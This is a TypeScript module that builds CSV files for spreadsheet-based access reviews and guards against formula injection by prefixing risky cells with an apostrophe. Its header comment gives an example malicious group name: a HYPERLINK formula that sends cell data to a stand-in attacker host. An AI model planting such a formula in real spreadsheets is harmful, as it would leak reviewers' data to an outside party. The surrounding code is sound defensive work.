/**
 * CSV for spreadsheets (the periodic access review is read in Excel or WPS): UTF-8 with a
 * BOM, so Excel does not read Chinese as mojibake; CRLF line ends and RFC 4180 quoting.
 *
 * Formula injection: a cell that starts with = + - @, a tab or a carriage return is taken by
 * the spreadsheet as a formula. Group, user and form names are typed by people (a group
 * named `=HYPERLINK("https://evil.example/?"&A1, "点击")` would send the reviewer's data
 * away when clicked), so such a cell gets a leading apostrophe and stays text.
 *
 * Pure: no I/O.
 */

export const BOM = '\uFEFF';

const FORMULA_START = /^[=+\-@\t\r]/;

/** One cell: neutralised against formulas, quoted when it holds a quote, comma or line break. */
export function csvCell(value: string | number | boolean | null | undefined): string {
  let s = value === null || value === undefined ? '' : String(value);
  if (FORMULA_START.test(s)) s = `'${s}`;
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** A whole file: the BOM, then one CRLF-ended line per row. */
export function toCsv(rows: readonly (readonly (string | number | boolean | null | undefined)[])[]): string {
  return BOM + rows.map((r) => r.map(csvCell).join(',') + '\r\n').join('');
}
